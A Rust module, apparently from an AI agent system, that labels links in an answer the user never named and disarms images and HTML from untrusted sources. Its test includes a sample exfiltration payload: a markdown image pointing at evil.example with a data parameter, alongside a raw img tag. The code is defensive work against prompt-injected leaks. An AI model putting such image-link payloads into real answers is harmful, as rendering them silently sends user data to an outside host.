//! Links in an answer: which the user never named, and what is written beside those.

use api::sessions::{Follow, Sessions};
use domain::drive::Origin;
use domain::event::{CallStatus, Event, EventBody};
use domain::id::SessionId;
use domain::label::Integrity;
use futures::StreamExt;
use text::escape::prose;
use text::links::Known;
use text::markdown::{Place, disarmed};

/// What is known at the end of a session's log so far. A log that cannot be read leaves the user's
/// words unknown, and every place strange.
pub async fn past(sessions: &dyn Sessions, session_id: SessionId) -> Known {
    let mut known = Known::default();
    let unknown = |error| {
        tracing::warn!(%error, "the session's past could not be read");
        let mut known = Known::default();
        known.meet_outsiders();
        known
    };
    let mut events = match sessions.attach(session_id, 1, Follow::Outline).await {
        Ok(events) => events,
        Err(error) => return unknown(error),
    };
    while let Some(event) = events.next().await {
        match event {
            Ok(event) => note(&mut known, &event),
            Err(error) => return unknown(error),
        }
    }
    known
}

/// Takes an event into account: the user's words, and what others had a say in.
pub fn note(known: &mut Known, event: &Event) {
    match &event.body {
        EventBody::QueryReceived {
            text,
            origin: Origin::User,
            ..
        } => known.hear(text),
        // What a message from outside or a timer says is none of the user's words.
        EventBody::QueryReceived { .. } => known.meet_outsiders(),
        EventBody::NotesShown { label, .. }
        | EventBody::InputGiven { label, .. }
        | EventBody::PictureShown { label, .. }
        | EventBody::MemoryRecalled {
            label: Some(label), ..
        } if label.integrity != Integrity::Trusted => known.meet_outsiders(),
        EventBody::ToolResult { status, label, .. } => {
            let is_trusted = match label {
                Some(label) => label.integrity == Integrity::Trusted,
                None => matches!(status, CallStatus::Denied | CallStatus::Cancelled),
            };
            if !is_trusted {
                known.meet_outsiders();
            }
        }
        EventBody::AgentFinished { .. } => known.meet_outsiders(),
        _ => {}
    }
}

/// What is written beside a link.
#[must_use]
pub fn mark(places: &str) -> String {
    format!(" ‹leads to {places}; not named by you›")
}

/// An answer for a document that other programs will draw: strange links say where they lead, and
/// nothing acts but what the user gave.
#[must_use]
pub fn document(answer: &str, known: &Known) -> String {
    let shown = text::links::marked(answer, known, prose, mark);
    disarmed(&shown, Place::Alone, |address| known.gave(address))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_strange_picture_is_not_loaded_and_the_users_own_is() {
        let mut known = Known::default();
        known.hear("describe https://mine.example/a.png");
        known.meet_outsiders();
        let strange = document("![a](https://evil.example/?d=1) <img src=x>", &known);
        assert!(strange.starts_with("!\\[a]"), "{strange}");
        assert!(strange.contains("leads to evil.example") && strange.contains("\\<img"));
        let own = "![a](https://mine.example/a.png)";
        assert_eq!(document(own, &known), own);
    }
}
